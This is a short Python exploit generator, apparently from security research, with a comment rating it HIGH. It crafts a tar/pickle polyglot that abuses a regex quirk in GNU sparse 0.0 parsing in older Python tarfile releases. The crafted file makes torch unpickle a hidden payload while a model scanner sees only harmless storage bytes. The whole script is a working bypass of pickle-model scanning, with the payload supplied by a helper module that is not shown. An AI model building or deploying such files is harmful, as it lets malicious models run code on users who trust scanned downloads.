# HIGH: pax GNU sparse 0.0 as the releases before the checked pax parser read it (3.8.0-3.8.19,
# 3.9.0-3.9.19, 3.10.0-3.10.14, 3.11.0-3.11.9, 3.12.0-3.12.5): _proc_gnusparse_00 takes the map from
# re.finditer(br"\d+ GNU.sparse.offset=(\d+)\n", buf) over the raw pax data, where '.' is any byte,
# so the records "GNUxsparsexoffset=..." / "GNUxsparsexnumbytes=..." are map entries to tarfile but
# unknown keys to the scanner, which sees an empty map. The runs put the stored data [X][Y] on disk
# as Y X: Y (the payload) is what torch unpickles first from "storages". The scanner reads the
# stored data in file order, where X (count 1, one ByteStorage of len(Y) elements) skips Y as
# storage bytes. Byte 0 (the pax header name) is PROTO 3 + BINBYTES over the whole file.
import sys, struct, pickle
import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3'))
from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
Y = payload(h)
def U(s): return b'X' + struct.pack('<I', len(s)) + s
X = b'\x80\x02K\x01.' + b'\x80\x02(' + U(b'0') + U(b'cpu') + b'ctorch\nByteStorage\nt.' + struct.pack('<q', len(Y))
ny, nx = len(Y), len(X)
recs = [(b'GNU.sparse.size', str(nx + ny).encode()),
        (b'GNUxsparsexoffset', str(ny).encode()), (b'GNUxsparsexnumbytes', str(nx).encode()),
        (b'GNUxsparsexoffset', b'0'), (b'GNUxsparsexnumbytes', str(ny).encode())]
H0 = bytearray(pax(recs))
rest = member(b'storages', X + Y) + end()
H0[0:100] = b'\0' * 100
H0[0:7] = b'\x80\x03B' + struct.pack('<I', len(H0) + len(rest) - 7)
H0[148:156] = b' ' * 8
H0[148:156] = b'%06o\0 ' % sum(H0[:512])
open(out, 'wb').write(bytes(H0) + rest + b'.')
